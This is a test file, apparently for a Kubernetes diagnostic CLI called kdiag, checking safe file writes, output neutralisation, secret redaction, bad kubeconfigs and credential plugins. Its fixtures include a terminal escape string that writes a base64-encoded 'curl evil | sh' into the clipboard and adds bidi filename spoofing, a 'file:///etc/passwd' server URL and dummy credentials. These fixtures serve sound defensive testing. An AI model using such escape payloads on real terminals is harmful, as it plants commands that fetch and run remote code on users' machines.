// What leaves kdiag: files (capture -o, gate --junit), terminals and CI logs, bundles. Plus bad kubeconfigs
// and exec credential plugins that hang or must run once.
import { chmodSync, existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import type http from 'node:http';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { unsafeAt } from '../hardening/hostile.js';
import { answer, closeAll, isList, json, kindOf, kubeconfigFor, list, POD, serve, tmp } from './server.js';
import { expectOneLine, kdiagAsync } from '../support/cli.js';

afterEach(closeAll);
const ESC = '\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u001b[2J\u0000\u009b31m\u202egnp.exe';

/** A Ready Pod `web` that has been Ready long enough for the gate to pass. */
function readyPod(req: http.IncomingMessage, res: http.ServerResponse): void {
  if (kindOf(req.url ?? '') === 'Pod' && isList(req.url ?? '')) {
    return json(res, 200, list('Pod', [{ ...POD, status: { phase: 'Running', conditions: [{ type: 'Ready', status: 'True', lastTransitionTime: '2026-11-30T10:00:00Z' }], containerStatuses: [{ name: 'app', ready: true, restartCount: 0, state: { running: { startedAt: '2026-11-30T10:00:00Z' } } }] } }]));
  }
  if ((req.url ?? '').includes('watch=1')) return; // watches stay open until the gate ends
  answer(req, res);
}

describe('safe writes', () => {
  it('capture --output-file refuses a dangling symlink, an existing file (unless --force) and a missing directory', async () => {
    const s = await serve(answer);
    const dir = join(tmp, `w-${Date.now()}`);
    mkdirSync(dir);
    const target = join(dir, 'planted-target');
    symlinkSync(target, join(dir, 'link.yaml'));
    const link = await kdiagAsync(['capture', 'pod', 'web', '--output-file', join(dir, 'link.yaml')], { env: { KUBECONFIG: s.kubeconfig } });
    expectOneLine(link, 2, 'is a symbolic link');
    expect(existsSync(target)).toBe(false);
    writeFileSync(join(dir, 'old.yaml'), 'keep');
    const old = await kdiagAsync(['capture', 'pod', 'web', '--output-file', join(dir, 'old.yaml')], { env: { KUBECONFIG: s.kubeconfig } });
    expectOneLine(old, 2, 'already exists');
    expect(readFileSync(join(dir, 'old.yaml'), 'utf8')).toBe('keep');
    const forced = await kdiagAsync(['capture', 'pod', 'web', '--output-file', join(dir, 'old.yaml'), '--force'], { env: { KUBECONFIG: s.kubeconfig } });
    expect(forced.code, forced.stderr).toBe(0);
    expect(readFileSync(join(dir, 'old.yaml'), 'utf8')).toContain('kind: List');
    const missing = await kdiagAsync(['capture', 'pod', 'web', '--output-file', join(dir, 'no/such/dir/f.yaml')], { env: { KUBECONFIG: s.kubeconfig } });
    expectOneLine(missing, 2, 'does not exist');
  });

  it('gate --junit into a missing directory or onto an existing file: exit 2 and one line before any request, not after the wait', async () => {
    const s = await serve(readyPod);
    const r = await kdiagAsync(['gate', 'pod/web', '--timeout', '10s', '--junit', join(tmp, 'missing-dir/report.xml')], { env: { KUBECONFIG: s.kubeconfig } });
    expectOneLine(r, 2, 'does not exist');
    expect(r.stderr).toContain('--junit');
    const existing = join(tmp, `junit-${Date.now()}.xml`);
    writeFileSync(existing, 'keep');
    const again = await kdiagAsync(['gate', 'pod/web', '--timeout', '10s', '--junit', existing], { env: { KUBECONFIG: s.kubeconfig } });
    expectOneLine(again, 2, 'already exists');
    expect(readFileSync(existing, 'utf8')).toBe('keep');
    expect(s.requests()).toBe(0);
    // Near miss: with --force the gate runs and replaces the file with its report.
    const forced = await kdiagAsync(['gate', 'pod/web', '--timeout', '10s', '--junit', existing, '--force'], { env: { KUBECONFIG: s.kubeconfig } });
    expect(forced.code, forced.stderr).toBe(0);
    expect(readFileSync(existing, 'utf8')).toContain('<testsuite');
  });

  it('gate --junit never follows a symlink nor overwrites without --force', async () => {
    const s = await serve(readyPod);
    const dir = join(tmp, `j-${Date.now()}`);
    mkdirSync(dir);
    symlinkSync(join(dir, 'elsewhere'), join(dir, 'r.xml'));
    const r = await kdiagAsync(['gate', 'pod/web', '--timeout', '2s', '--junit', join(dir, 'r.xml')], { env: { KUBECONFIG: s.kubeconfig } });
    expect(r.code).toBe(2);
    expect(existsSync(join(dir, 'elsewhere'))).toBe(false);
  });
});

describe('neutralised output', () => {
  it('gate pod/NAME with escapes in the phase and namespace: nothing unsafe on stdout or stderr, GitHub annotations included', async () => {
    const hostile = { ...POD, status: { phase: `Pending${ESC}` } };
    const s = await serve((req, res) => (kindOf(req.url ?? '') === 'Pod' && isList(req.url ?? '') ? json(res, 200, list('Pod', [hostile])) : answer(req, res)));
    for (const env of [{}, { GITHUB_ACTIONS: 'true' }] as Array<Record<string, string>>) {
      const r = await kdiagAsync(['gate', 'pod/web', '--timeout', '1s'], { env: { KUBECONFIG: s.kubeconfig, ...env } });
      expect(r.code, r.stderr).toBe(5);
      expect(unsafeAt(r.stdout)).toBeUndefined();
      expect(unsafeAt(r.stderr)).toBeUndefined();
    }
  });

  it('capture to stdout and -o: no C1, bidi or NUL in the bundle', async () => {
    const hostile = { ...POD, status: { phase: 'Pending', message: `evil${ESC}` } };
    const s = await serve((req, res) => (req.url?.includes('/pods/web') ? json(res, 200, hostile) : answer(req, res)));
    const r = await kdiagAsync(['capture', 'pod', 'web'], { env: { KUBECONFIG: s.kubeconfig } });
    expect(r.code, r.stderr).toBe(0);
    expect(unsafeAt(r.stdout)).toBeUndefined();
  });
});

describe('redaction', () => {
  const SECRET = 'sup3r-s3cret-db-passw0rd';
  const leaky = {
    ...POD,
    metadata: { ...POD.metadata, annotations: { 'kubectl.kubernetes.io/last-applied-configuration': JSON.stringify({ env: [{ name: 'DB', value: SECRET }] }) } },
    spec: {
      containers: [{
        name: 'app', image: 'x', env: [{ name: 'DB', value: SECRET }],
        livenessProbe: { httpGet: { path: '/', port: 80, httpHeaders: [{ name: 'Authorization', value: 'Basic dXNlcjpodW50ZXIy' }] } },
        lifecycle: { preStop: { exec: { command: ['sh', '-c', 'curl -u admin:hunter2 https://x --header "token: abcdefghijkl"'] } } },
      }],
    },
    status: { phase: 'Running', containerStatuses: [{ name: 'app', restartCount: 2, state: { waiting: { reason: 'CrashLoopBackOff', message: 'back-off' } }, lastState: { terminated: { exitCode: 1, reason: 'Error', message: `cannot connect with ${SECRET}`, finishedAt: '2026-11-30T10:05:00Z' } } }] },
  };
  const eventWithToken = { apiVersion: 'v1', kind: 'Event', metadata: { name: 'e1', namespace: 'shop' }, involvedObject: { kind: 'Pod', name: 'web', namespace: 'shop' }, reason: 'Unhealthy', type: 'Warning', message: `probe failed: Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ4In0.c2lnbmF0dXJlLXh4eA and ${SECRET}`, lastTimestamp: '2026-11-30T10:05:00Z', count: 3 };

  it('last-applied-configuration without managedFields, env values echoed into messages, Bearer tokens in events: masked in bundles and reports', async () => {
    const s = await serve((req, res) => {
      if (req.url?.includes('/pods/web/log')) return json(res, 200, `starting\nlogin failed for ${SECRET}\n`);
      if (req.url?.includes('/pods/web')) return json(res, 200, leaky);
      if (kindOf(req.url ?? '') === 'Event') return json(res, 200, list('Event', [eventWithToken]));
      answer(req, res);
    });
    const outs = await Promise.all([['capture', 'pod', 'web'], ['pod', 'web', '-o', 'json'], ['pod', 'web', '-v'], ['pod', 'web', '-o', 'yaml']].map((a) => kdiagAsync(a, { env: { KUBECONFIG: s.kubeconfig } })));
    for (const r of outs) {
      expect(r.code === 0 || r.code === 1, r.stderr).toBe(true);
      for (const leak of [SECRET, 'eyJhbGciOiJIUzI1NiJ9', 'dXNlcjpodW50ZXIy', 'hunter2', 'abcdefghijkl', 'last-applied-configuration']) {
        const at = (r.stdout + r.stderr).indexOf(leak);
        expect(at, `${leak} in: ${(r.stdout + r.stderr).slice(Math.max(0, at - 300), at + 100)}`).toBe(-1);
      }
    }
  });
});

describe('bad kubeconfigs and servers', () => {
  it('--kubeconfig /dev/zero: one line, exit 3, at once', async () => {
    const r = await kdiagAsync(['pod', 'web', '--kubeconfig', '/dev/zero'], { timeoutMs: 10_000 });
    expectOneLine(r, 3, 'is not a regular file');
    expect(r.ms).toBeLessThan(3_000);
  });

  it('a file: or malformed server URL: one line, exit 3', async () => {
    for (const [server, text] of [['file:///etc/passwd', 'is not an http(s) URL'], ['https://[::1', 'is not a URL'], ['::::', 'is not a URL']] as const) {
      const r = await kdiagAsync(['pod', 'web'], { env: { KUBECONFIG: kubeconfigFor(JSON.stringify(server)) } });
      expectOneLine(r, 3, text);
    }
  });

  it('a password in the server URL is never printed', async () => {
    const r = await kdiagAsync(['pod', 'web', '--request-timeout', '1s'], { env: { KUBECONFIG: kubeconfigFor('http://admin:hunter2-pass@127.0.0.1:9') } });
    expect(r.code).toBe(3);
    expect(r.stderr).not.toContain('hunter2-pass');
    expect(r.stderr).toContain('http://127.0.0.1:9');
  });
});

describe('exec credential plugins', () => {
  function plugin(name: string, body: string): string {
    const file = join(tmp, name);
    writeFileSync(file, `#!/bin/sh\n${body}\n`);
    chmodSync(file, 0o755);
    return file;
  }
  const execUser = (command: string): string => `exec:\n  apiVersion: client.authentication.k8s.io/v1beta1\n  command: ${command}\n  interactiveMode: Never`;

  it('runs once per command, not once per parallel request', async () => {
    const counter = join(tmp, `runs-${Date.now()}`);
    const cmd = plugin(`count-${Date.now()}.sh`, `echo x >> ${counter}\necho '{"apiVersion":"client.authentication.k8s.io/v1beta1","kind":"ExecCredential","status":{"token":"good"}}'`);
    const s = await serve((req, res) => (req.headers.authorization === 'Bearer good' ? answer(req, res) : json(res, 401, { kind: 'Status', message: 'Unauthorized' })), { user: execUser(cmd) });
    const r = await kdiagAsync(['pod', 'web', '-o', 'json'], { env: { KUBECONFIG: s.kubeconfig } });
    expect(r.code, r.stderr).toBe(0);
    expect(readFileSync(counter, 'utf8').trim().split('\n')).toHaveLength(1);
    expect(s.requests()).toBeGreaterThanOrEqual(3);
  });

  it('a plugin that hangs ends at --request-timeout, naming the plugin', async () => {
    const cmd = plugin(`hang-${Date.now()}.sh`, 'sleep 30');
    const s = await serve(answer, { user: execUser(cmd) });
    const r = await kdiagAsync(['pod', 'web', '--request-timeout', '1s'], { env: { KUBECONFIG: s.kubeconfig } });
    expectOneLine(r, 3, /exec credential plugin ".*hang-\d+\.sh" did not finish within 1s/);
    expect(r.ms).toBeLessThan(4_000);
  });

  it('a 401 refreshes the credential once: the plugin runs again and the read succeeds', async () => {
    const counter = join(tmp, `refresh-${Date.now()}`);
    const cmd = plugin(`refresh-${Date.now()}.sh`, `echo x >> ${counter}\nn=$(wc -l < ${counter})\necho "{\\"apiVersion\\":\\"client.authentication.k8s.io/v1beta1\\",\\"kind\\":\\"ExecCredential\\",\\"status\\":{\\"token\\":\\"t$n\\"}}"`);
    const s = await serve((req, res) => (req.headers.authorization === 'Bearer t2' ? answer(req, res) : json(res, 401, { kind: 'Status', message: 'Unauthorized' })), { user: execUser(cmd) });
    const r = await kdiagAsync(['pod', 'web', '-o', 'json'], { env: { KUBECONFIG: s.kubeconfig } });
    expect(r.code, r.stderr).toBe(0);
    expect(readFileSync(counter, 'utf8').trim().split('\n')).toHaveLength(2);
  });
});
